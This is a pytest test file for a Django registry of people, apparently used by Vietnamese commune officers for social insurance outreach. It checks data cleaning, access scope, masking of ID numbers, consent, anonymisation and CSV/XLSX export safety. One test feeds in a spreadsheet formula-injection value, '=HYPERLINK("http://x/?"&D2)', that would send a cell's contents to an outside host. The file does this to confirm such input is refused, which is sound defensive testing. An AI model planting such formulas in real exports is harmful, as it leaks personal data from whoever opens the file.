"""The registry by hand: cleaning, scope, masking, consent, deletion on request, segments, reach by name."""

import datetime as dt
import io

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from conftest import legacy_commune
from lantoa.accounts.roles import Role
from lantoa.activities.kinds import Channel, Kind
from lantoa.activities.models import Activity
from lantoa.activities.services import AudienceRow, activity_save
from lantoa.audience import fields, selectors, services
from lantoa.audience.models import DataRequest, Person, Reach, Segment
from lantoa.core.models import AuditLog
from lantoa.orgs.models import Unit
from lantoa.taxonomy.models import TargetGroup, Topic

pytestmark = pytest.mark.django_db

LKA_UNIT = "hn-ubnd-long-khanh-a"


def new_person(unit_code=LKA_UNIT, commune="Xã Long Khánh A", **extra):
    values = {
        "full_name": "Nguyễn Thị Lan",
        "birth_date": dt.date(1985, 3, 4),
        "sex": "f",
        "cccd": "87185001234",  # lost its leading zero in Excel
        "phone": "912 345 678",
    }
    values.update(extra)
    return Person(unit=Unit.objects.get(code=unit_code), area=legacy_commune(commune), **values)


@pytest.fixture
def lan(officer_long_khanh_a):
    return services.person_save(actor=officer_long_khanh_a, person=new_person())


def test_cleaners_repair_excel_damage_and_name_the_problem():
    assert fields.clean_cccd("87185001234") == "087185001234"
    assert fields.clean_cccd("087 185 001 234") == "087185001234"
    assert fields.clean_phone("912345678") == "+84912345678"
    assert fields.clean_bhxh("871234567") == "0871234567"
    with pytest.raises(fields.FieldError):
        fields.clean_bhxh("1234567")
    with pytest.raises(fields.FieldError, match="12"):
        fields.clean_cccd("12345")
    with pytest.raises(fields.FieldError):
        fields.clean_phone("+1 202 555 0101")
    with pytest.raises(fields.FieldError):
        fields.clean_birth("01/01/2999", today=dt.date(2026, 1, 1))
    assert fields.clean_birth("1985") == (None, 1985)
    with pytest.raises(fields.FieldError):
        fields.clean_text("=SUM(A1:A3)")


def test_a_person_is_saved_clean_and_audited(lan, officer_long_khanh_a):
    lan.refresh_from_db()
    assert lan.cccd == "087185001234" and lan.phone == "+84912345678"
    assert lan.name_key == "nguyen thi lan" and lan.birth_year == 1985
    assert AuditLog.objects.filter(verb="person_save", target_id=str(lan.pk), actor=officer_long_khanh_a).exists()


def test_bad_fields_are_named_and_nothing_is_saved(officer_long_khanh_a):
    with pytest.raises(ValidationError) as exc:
        services.person_save(
            actor=officer_long_khanh_a, person=new_person(cccd="123", phone="555", birth_date=dt.date(2030, 1, 1))
        )
    assert set(exc.value.message_dict) == {"cccd", "phone", "birth_date"}
    assert Person.objects.count() == 0


def test_an_officer_cannot_keep_people_of_another_commune(officer_thuong_lac):
    with pytest.raises(ValidationError):
        services.person_save(actor=officer_thuong_lac, person=new_person())


def test_scope_list_and_detail(client, lan, officer_thuong_lac, officer_long_khanh_a):
    client.force_login(officer_thuong_lac)
    assert lan.full_name not in client.get(reverse("audience:list")).content.decode()
    assert client.get(reverse("audience:person", args=[lan.pk])).status_code == 404
    assert client.get(reverse("audience:edit", args=[lan.pk])).status_code == 404
    client.force_login(officer_long_khanh_a)
    page = client.get(reverse("audience:list")).content.decode()
    assert lan.full_name in page and "087185001234" in page  # their own commune: in full


def test_identifiers_are_masked_for_roles_not_entitled(client, lan, default_data, make_user):
    collaborator = make_user(Role.COLLABORATOR, LKA_UNIT)
    client.force_login(collaborator)
    page = client.get(reverse("audience:person", args=[lan.pk])).content.decode()
    assert "087185001234" not in page and "0871******34" in page
    assert "0912345678" not in page and "091****678" in page
    leader = make_user(Role.LEADER, "hn-ubnd-huyen")
    client.force_login(leader)
    page = client.get(reverse("audience:list")).content.decode()
    assert lan.full_name in page and "087185001234" not in page


def test_export_is_masked_and_audited(client, lan, default_data, make_user):
    collaborator = make_user(Role.COLLABORATOR, LKA_UNIT)
    client.force_login(collaborator)
    response = client.get(reverse("audience:list") + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = [c.value for c in sheet[2]]
    assert "Nguyễn Thị Lan" in row and "0871******34" in row and "087185001234" not in row
    log = AuditLog.objects.get(verb="export_personal_data")
    assert log.actor == collaborator and "1 rows" in log.note and "masked" in log.note


def test_consent_withdrawal_is_a_new_record_and_a_request(lan, officer_long_khanh_a):
    services.consent_record(actor=officer_long_khanh_a, person=lan, given=True, channel="sms", how="phiếu")
    services.consent_record(actor=officer_long_khanh_a, person=lan, given=False, how="gọi điện")
    lan.refresh_from_db()
    assert not lan.consent and lan.consent_channel == ""
    assert [e.given for e in lan.consent_events.order_by("id")] == [True, False]
    assert DataRequest.objects.filter(person=lan, kind=DataRequest.Kind.WITHDRAWAL).count() == 1


def test_deletion_on_request_keeps_anonymous_counts(lan, officer_long_khanh_a):
    activity = activity_save(
        actor=officer_long_khanh_a,
        activity=Activity(
            kind=Kind.HOUSEHOLD_VISIT,
            channel=Channel.DIRECT,
            start_date=dt.date(2023, 6, 1),
            organiser=Unit.objects.get(code=LKA_UNIT),
            area=legacy_commune("Xã Long Khánh A"),
        ),
        audiences=[AudienceRow(TargetGroup.objects.get(code="tn-1"), 1)],
    )
    services.reach_add_for_activity(actor=officer_long_khanh_a, activity=activity, person_ids=[lan.pk])
    services.person_anonymise(actor=officer_long_khanh_a, person=lan, note="đơn ngày 10/6")
    lan.refresh_from_db()
    assert lan.full_name == "" and lan.cccd == "" and lan.phone == "" and lan.birth_date is None
    assert lan.birth_year == 1985 and lan.sex == "f" and lan.anonymised_at
    assert Reach.objects.filter(person=lan).count() == 1  # still counted
    # The audit no longer tells what the record said.
    for log in AuditLog.objects.filter(target_type="audience.person", target_id=str(lan.pk)):
        assert "087185001234" not in str(log.changes) and "Lan" not in log.target_repr
    with pytest.raises(ValidationError):
        services.person_anonymise(actor=officer_long_khanh_a, person=lan)


def test_reach_is_distinct_and_follows_the_activity_topics(lan, officer_long_khanh_a):
    lka = legacy_commune("Xã Long Khánh A")
    unit = Unit.objects.get(code=LKA_UNIT)
    activity = activity_save(
        actor=officer_long_khanh_a,
        activity=Activity(
            kind=Kind.HOUSEHOLD_VISIT, channel=Channel.DIRECT, start_date=dt.date(2023, 6, 1), organiser=unit, area=lka
        ),
        audiences=[AudienceRow(TargetGroup.objects.get(code="tn-1"), 2)],
    )
    assert services.reach_add_for_activity(actor=officer_long_khanh_a, activity=activity, person_ids=[lan.pk]) == 1
    assert services.reach_add_for_activity(actor=officer_long_khanh_a, activity=activity, person_ids=[lan.pk]) == 0
    reach = Reach.objects.get(person=lan)
    assert not reach.voluntary
    voluntary = Topic.objects.filter(voluntary_bhxh=True).first()
    activity_save(
        actor=officer_long_khanh_a,
        activity=activity,
        audiences=[AudienceRow(TargetGroup.objects.get(code="tn-1"), 2)],
        topics=[voluntary],
    )
    reach.refresh_from_db()
    assert reach.voluntary and reach.date == dt.date(2023, 6, 1)


def test_reach_page_picks_people(client, lan, officer_long_khanh_a, officer_thuong_lac):
    unit = Unit.objects.get(code=LKA_UNIT)
    activity = activity_save(
        actor=officer_long_khanh_a,
        activity=Activity(
            kind=Kind.HOUSEHOLD_VISIT,
            channel=Channel.DIRECT,
            start_date=dt.date(2023, 6, 1),
            organiser=unit,
            area=legacy_commune("Xã Long Khánh A"),
        ),
        audiences=[AudienceRow(TargetGroup.objects.get(code="tn-1"), 1)],
    )
    client.force_login(officer_long_khanh_a)
    detail = client.get(reverse("activities:detail", args=[activity.pk])).content.decode()
    assert reverse("audience:activity_reach", args=[activity.pk]) in detail
    found = client.get(reverse("audience:activity_reach", args=[activity.pk]) + "?q=nguyen thi lan").content.decode()
    assert f'value="{lan.pk}"' in found
    client.post(reverse("audience:activity_reach_change", args=[activity.pk]), {"people": [lan.pk]})
    assert Reach.objects.filter(activity=activity, person=lan).exists()
    # The sign-in sheet can be imported instead: the upload form opens with this activity chosen.
    link = f"{reverse('audience:import_new')}?kind=attendance&amp;activity={activity.pk}"
    assert link in found
    upload = client.get(link.replace("&amp;", "&")).content.decode()
    assert f'value="{activity.pk}"' in upload
    client.force_login(officer_thuong_lac)
    assert client.get(reverse("audience:activity_reach", args=[activity.pk])).status_code == 404
    client.post(reverse("audience:activity_reach_change", args=[activity.pk]), {"people": [lan.pk], "remove": "1"})
    assert Reach.objects.filter(activity=activity, person=lan).exists()


def test_segment_with_the_computed_due_group(lan, officer_long_khanh_a, in_2023):
    other = services.person_save(
        actor=officer_long_khanh_a,
        person=new_person(
            full_name="Trần Văn Bình",
            cccd="",
            phone="",
            insurance_status="voluntary",
            payment_mode="1m",
            next_due_date=in_2023 + dt.timedelta(days=10),
        ),
    )
    later = services.person_save(
        actor=officer_long_khanh_a,
        person=new_person(
            full_name="Lê Văn Cường",
            cccd="",
            phone="",
            insurance_status="voluntary",
            payment_mode="1m",
            next_due_date=in_2023 + dt.timedelta(days=90),
        ),
    )
    segment = services.segment_save(
        actor=officer_long_khanh_a,
        segment=Segment(name="Sắp đến hạn", unit=Unit.objects.get(code=LKA_UNIT), filters={"group_codes": ["tn-7"]}),
    )
    people = set(selectors.segment_people(segment, user=officer_long_khanh_a))
    assert people == {other}
    group = TargetGroup.objects.get(code="tn-7")
    group.due_window_days = 120
    group.save()
    assert set(selectors.segment_people(segment, user=officer_long_khanh_a)) == {other, later}
    assert lan not in people


def test_segment_saved_from_the_list_filters(client, lan, officer_long_khanh_a):
    client.force_login(officer_long_khanh_a)
    unit = Unit.objects.get(code=LKA_UNIT)
    response = client.post(
        reverse("audience:segment_new"), {"name": "Nữ 30–45", "unit": unit.pk, "sex": "f", "age_min": 30, "age_max": 45}
    )
    assert response.status_code == 302
    segment = Segment.objects.get()
    assert segment.filters == {"sex": "f", "age_min": 30, "age_max": 45}
    assert list(selectors.segment_people(segment, user=officer_long_khanh_a)) == [lan]
    assert "Nữ 30–45" in client.get(reverse("audience:segments")).content.decode()


def test_person_form_shows_errors_by_field(client, officer_long_khanh_a):
    client.force_login(officer_long_khanh_a)
    lka = legacy_commune("Xã Long Khánh A")
    response = client.post(
        reverse("audience:new"),
        {
            "full_name": "Phạm Văn Dũng",
            "cccd": "123",
            "area": lka.pk,
            "unit": Unit.objects.get(code=LKA_UNIT).pk,
            "insurance_status": "none",
        },
    )
    assert response.status_code == 200 and Person.objects.count() == 0
    assert "12" in response.content.decode()


def test_formulas_are_refused_and_never_exported_as_formulas(officer_long_khanh_a, client, lan):
    with pytest.raises(ValidationError) as exc:
        services.person_save(actor=officer_long_khanh_a, person=new_person(address='=HYPERLINK("http://x/?"&D2)'))
    assert "address" in exc.value.message_dict
    # A value that slipped in another way (an old record) leaves the export as text.
    Person.objects.filter(pk=lan.pk).update(address="=1+1")
    client.force_login(officer_long_khanh_a)
    sheet = load_workbook(io.BytesIO(client.get(reverse("audience:list") + "?export=xlsx").content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == "=1+1"]
    assert cells and all(c.data_type == "s" for c in cells)
    csv_text = client.get(reverse("audience:list") + "?export=csv").content.decode("utf-8-sig")
    assert "'=1+1" in csv_text


def test_masked_roles_cannot_search_by_identifier(client, lan, default_data, make_user, officer_long_khanh_a):
    collaborator = make_user(Role.COLLABORATOR, LKA_UNIT)
    assert not selectors.person_list(user=collaborator, filters=selectors.PersonFilter(q="087185001234")).exists()
    assert selectors.person_list(user=collaborator, filters=selectors.PersonFilter(q="thi lan")).exists()
    assert selectors.person_list(user=officer_long_khanh_a, filters=selectors.PersonFilter(q="087185001234")).exists()


def test_the_reach_page_hides_people_kept_elsewhere(
    lan, officer_long_khanh_a, officer_thuong_lac, client, default_data, make_user
):
    coordinator = make_user(Role.COORDINATOR, "hn-ldtbxh")
    # A district association's meeting in Thường Lạc reached someone kept by Long Khánh A.
    activity = activity_save(
        actor=coordinator,
        activity=Activity(
            kind=Kind.CONFERENCE,
            channel=Channel.DIRECT,
            start_date=dt.date(2023, 6, 1),
            organiser=Unit.objects.get(code="hn-hoiphunu"),
            area=legacy_commune("Xã Thường Lạc"),
        ),
        audiences=[AudienceRow(TargetGroup.objects.get(code="tn-1"), 5)],
    )
    services.reach_add_for_activity(actor=coordinator, activity=activity, person_ids=[lan.pk])
    client.force_login(officer_thuong_lac)
    page = client.get(reverse("audience:activity_reach", args=[activity.pk])).content.decode()
    assert lan.full_name not in page and "0912345678" not in page
    client.force_login(officer_long_khanh_a)
    person_page = client.get(reverse("audience:person", args=[lan.pk])).content.decode()
    assert activity.title not in person_page  # an activity they may not read: its date only


def test_deletion_reaches_the_duplicates_merged_into_the_person(lan, officer_long_khanh_a):
    from lantoa.audience.merge import person_merge
    from lantoa.audience.models import MergeRecord

    copy = services.person_save(
        actor=officer_long_khanh_a, person=new_person(full_name="Nguyen Thi Lan", phone="0912 000 111")
    )
    person_merge(actor=officer_long_khanh_a, kept=lan, merged=copy, choices={})
    services.person_anonymise(actor=officer_long_khanh_a, person=lan)
    copy.refresh_from_db()
    assert copy.full_name == "" and copy.cccd == "" and copy.phone == "" and copy.anonymised_at
    assert MergeRecord.objects.get().merged_snapshot == {}
    for log in AuditLog.objects.filter(target_type="audience.person", target_id=str(copy.pk)):
        assert "0912000111" not in str(log.changes) and "087185001234" not in str(log.changes)
